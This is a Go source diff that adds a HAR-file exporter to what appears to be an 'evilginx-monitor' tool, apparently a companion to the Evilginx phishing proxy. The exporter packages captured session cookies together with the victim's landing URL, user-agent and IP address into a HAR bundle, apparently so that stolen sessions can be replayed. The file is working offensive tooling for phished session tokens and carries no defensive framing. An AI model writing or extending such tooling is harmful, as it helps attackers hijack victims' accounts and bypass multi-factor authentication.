@@ -0,0 +1,134 @@
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+	"time"
+)
+
+// harCookie is the cookie shape nested under request.cookies in a HAR file.
+type harCookie struct {
+	Name     string `json:"name"`
+	Value    string `json:"value"`
+	Path     string `json:"path,omitempty"`
+	Domain   string `json:"domain,omitempty"`
+	Expires  string `json:"expires,omitempty"`
+	HTTPOnly bool   `json:"httpOnly"`
+	Secure   bool   `json:"secure"`
+}
+
+type harHeader struct {
+	Name  string `json:"name"`
+	Value string `json:"value"`
+}
+
+type harRequest struct {
+	Method      string      `json:"method"`
+	URL         string      `json:"url"`
+	HTTPVersion string      `json:"httpVersion"`
+	Cookies     []harCookie `json:"cookies"`
+	Headers     []harHeader `json:"headers"`
+	HeadersSize int         `json:"headersSize"`
+	BodySize    int         `json:"bodySize"`
+}
+
+type harResponse struct {
+	Status      int         `json:"status"`
+	StatusText  string      `json:"statusText"`
+	HTTPVersion string      `json:"httpVersion"`
+	Cookies     []harCookie `json:"cookies"`
+	Headers     []harHeader `json:"headers"`
+	HeadersSize int         `json:"headersSize"`
+	BodySize    int         `json:"bodySize"`
+}
+
+type harEntry struct {
+	StartedDateTime string      `json:"startedDateTime"`
+	Request         harRequest  `json:"request"`
+	Response        harResponse `json:"response"`
+	ServerIPAddress string      `json:"serverIPAddress,omitempty"`
+	Time            int         `json:"time"`
+}
+
+type harLog struct {
+	Version string `json:"version"`
+	Creator struct {
+		Name    string `json:"name"`
+		Version string `json:"version"`
+	} `json:"creator"`
+	Entries []harEntry `json:"entries"`
+}
+
+type harFile struct {
+	Log harLog `json:"log"`
+}
+
+// HARExporter renders a session's tokens as a single-entry HAR bundle
+// carrying the landing URL, user-agent, and remote address alongside the
+// captured cookies.
+type HARExporter struct{}
+
+func (HARExporter) Format() ExportFormat {
+	return FormatHAR
+}
+
+func (HARExporter) Export(session Session, tokens []Token) (string, error) {
+	path, err := TempFileName(session, "session.har")
+	if err != nil {
+		return "", err
+	}
+
+	cookies := make([]harCookie, 0, len(tokens))
+	for _, t := range tokens {
+		var expires string
+		if t.ExpirationDate != nil {
+			expires = time.Unix(*t.ExpirationDate, 0).UTC().Format(time.RFC3339)
+		}
+		cookies = append(cookies, harCookie{
+			Name:     t.Name,
+			Value:    t.Value,
+			Path:     t.Path,
+			Domain:   t.Domain,
+			Expires:  expires,
+			HTTPOnly: t.HttpOnly,
+			Secure:   t.Secure,
+		})
+	}
+
+	har := harFile{Log: harLog{Version: "1.2"}}
+	har.Log.Creator.Name = "evilginx-monitor"
+	har.Log.Creator.Version = "1.0"
+	har.Log.Entries = []harEntry{
+		{
+			StartedDateTime: time.Unix(session.CreateTime, 0).UTC().Format(time.RFC3339),
+			Request: harRequest{
+				Method:      "GET",
+				URL:         session.LandingURL,
+				HTTPVersion: "HTTP/1.1",
+				Cookies:     cookies,
+				Headers:     []harHeader{{Name: "User-Agent", Value: session.UserAgent}},
+				HeadersSize: -1,
+				BodySize:    -1,
+			},
+			Response: harResponse{
+				Status:      200,
+				StatusText:  "OK",
+				HTTPVersion: "HTTP/1.1",
+				Cookies:     cookies,
+				HeadersSize: -1,
+				BodySize:    -1,
+			},
+			ServerIPAddress: session.RemoteAddr,
+		},
+	}
+
+	data, err := json.MarshalIndent(har, "", "  ")
+	if err != nil {
+		return "", fmt.Errorf("har exporter: marshalling HAR: %v", err)
+	}
+	if err := os.WriteFile(path, data, 0o600); err != nil {
+		return "", fmt.Errorf("har exporter: writing %s: %v", path, err)
+	}
+	return path, nil
+}